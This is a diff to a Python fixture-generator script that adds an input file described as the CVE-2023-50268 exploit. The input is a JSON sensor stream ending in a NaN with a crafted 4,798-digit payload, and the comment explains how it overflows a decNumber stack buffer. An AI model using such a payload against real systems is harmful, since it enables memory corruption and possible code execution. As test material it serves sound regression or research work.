@@ -68,3 +68,14 @@ for i in range(8):
 # Contents real files hold, for training only (../realistic.py says why).
 for i, count in enumerate([6, 10, 14, 8, 12]):
     write("train/varied-%d.in" % i, 300 + i, count, "varied")
+
+# The CVE-2023-50268 exploit: a sensor stream whose last reading carries a
+# NaN with a 4,798-digit payload. Comparing it with the reading before it
+# (the driver's `uniq` check) copies the payload's 1,600 three-digit units
+# (3,200 bytes) into a one-unit decNumber on the stack, over the frames
+# above it and on into the heap. Each little-endian pair of units (999, 1)
+# is the word 0x000103e7, an address in the Wasm stack.
+with open(os.path.join(HERE, "exploit/nan-payload.in"), "w") as f:
+    for v in (["21.5", "21.5", "21.75", "22"]):
+        f.write('{"reading": {"sensor": "t1", "value": %s}}\n' % v)
+    f.write('{"reading": {"sensor": "t1", "value": NaN1999%s}}\n' % ("001999" * 799))
